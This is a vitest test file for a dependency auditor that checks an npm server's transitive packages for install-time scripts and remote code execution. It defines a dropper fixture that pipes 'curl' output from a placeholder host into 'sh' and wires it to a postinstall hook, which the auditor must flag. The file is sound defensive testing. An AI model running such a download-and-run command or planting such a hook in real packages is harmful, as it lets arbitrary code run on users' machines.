/** Packages of which nobody knows that they changed: who makes a server for its own sake hides one level down what it does. */
import { describe, expect, it } from 'vitest'
import { type Audited, auditBelow, type Below, told } from './below.js'

const LONG_AGO = '2022-03-01T00:00:00.000Z'
/** A download-and-run dropper, harmless here: nothing of it is executed and its host has no address. */
const DROPPER = `const { execSync } = require('node:child_process')
execSync('curl -s https://files.dropzone.invalid/run.sh | sh')
`
const pkg = (name: string, code: string, more: object = {}) => ({
  '1.0.0': {
    publishedAt: LONG_AGO,
    files: { 'package.json': JSON.stringify({ name, version: '1.0.0', main: 'index.js', ...more }), 'index.js': code },
  },
})
const SCRIPT = { scripts: { postinstall: 'node index.js' } }

const packages = {
  hub: pkg('hub', DROPPER),
  calm: pkg('calm', ''),
  zod: pkg('zod', ''),
  deep: pkg('deep', ''),
  setup: pkg('setup', DROPPER, SCRIPT),
}
/** Two that the server asks for itself, and two below them. */
const today = [
  'calm@1.0.0',
  'hub@1.0.0',
  'zod@1.0.0',
  { is: 'deep@1.0.0', path: ['mail-mcp@1.0.1', 'calm@1.0.0', 'deep@1.0.0'] },
  { is: 'setup@1.0.0', path: ['mail-mcp@1.0.1', 'calm@1.0.0', 'setup@1.0.0'] },
]

const serious = ({ findings }: Audited): readonly string[] =>
  told(findings).filter((each) => /^(?:critical|high)/.test(each))

describe('where nobody accepted the tree', () => {
  it.each<[string, Partial<Below>]>([
    ['without a baseline', {}],
    ['with a release before that takes the same', { unchanged: true }],
    ['with a release before that took as much', { previous: today }],
    ['with what npx installed', { cached: today }],
  ])('%s, what runs at install and what few know is read', async (_, below) => {
    const audited = await auditBelow({ packages, today, ...below })
    expect(audited.registry.fetched.toSorted()).toEqual(['calm@1.0.0', 'hub@1.0.0', 'setup@1.0.0'])
    expect(serious(audited)).toEqual(
      expect.arrayContaining([
        'critical remote-code hub@1.0.0',
        'critical install-time-behaviour calm@1.0.0 > setup@1.0.0',
      ]),
    )
    expect(audited).toMatchObject({ failures: [], complete: true })
  })

  it('without a baseline it is said how many were not read', async () => {
    const { notEvaluated } = await auditBelow({ packages, today })
    expect(notEvaluated).toMatchObject([
      {
        subject: 'pkg:npm/mail-mcp@1.0.1',
        what: 'code of its dependencies',
        why: expect.stringMatching(/^2 of 5 are not read/),
      },
    ])
    expect((await auditBelow({ packages, today: ['calm@1.0.0'] })).notEvaluated).toEqual([])
  })
})

it('what was locked is not read again', async () => {
  const audited = await auditBelow({ packages, today, locked: today })
  expect(audited.registry.fetched).toEqual([])
  expect(audited.notEvaluated).toEqual([])
})

it('no more than 40 are read: what runs at install first, then the smallest', async () => {
  const many = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`part-${i}`, pkg(`part-${i}`, '')]))
  for (const [name, { '1.0.0': release }] of Object.entries(many)) {
    Object.assign(release, { manifest: { dist: { unpackedSize: 10_000 + Number(name.slice(5)) } } })
  }
  const hidden = pkg('zz-hidden', DROPPER)
  Object.assign(hidden['1.0.0'], { manifest: { dist: { unpackedSize: 300 } } })
  const all = { ...many, 'zz-hidden': hidden, setup: pkg('setup', DROPPER, SCRIPT) }
  const audited = await auditBelow({ packages: all, today: Object.keys(all).map((name) => `${name}@1.0.0`) })
  expect(audited.registry.fetched).toHaveLength(40)
  expect(audited.registry.fetched).toEqual(expect.arrayContaining(['zz-hidden@1.0.0', 'setup@1.0.0', 'part-0@1.0.0']))
  expect(audited.registry.fetched).not.toContain('part-59@1.0.0')
  expect(serious(audited)).toContain('critical remote-code zz-hidden@1.0.0')
  expect(audited.notEvaluated).toMatchObject([{ why: expect.stringMatching(/^22 of 62 are not read/) }])
})

it('what can not be read of them is said, and leaves no gap', async () => {
  const { failures, complete, notEvaluated } = await auditBelow({
    packages,
    today,
    extractor: {
      behaviour: async () => {
        throw new Error('crashed')
      },
    },
  })
  expect([failures, complete]).toEqual([[], true])
  expect(notEvaluated).toContainEqual(
    expect.objectContaining({ what: 'code of its dependencies', why: expect.stringContaining('calm@1.0.0') }),
  )
})

it('ordinary libraries that reach the network and start programs are no news', async () => {
  const code = `const { execFile } = require('node:child_process')
exports.run = (file) => execFile(file)
exports.get = () => fetch('https://api.library.invalid/x', { headers: { authorization: process.env.LIBRARY_TOKEN } })
`
  const audited = await auditBelow({ packages: { quiet: pkg('quiet', code) }, today: ['quiet@1.0.0'] })
  expect(audited.registry.fetched).toEqual(['quiet@1.0.0'])
  expect(audited.findings).toEqual([])
})
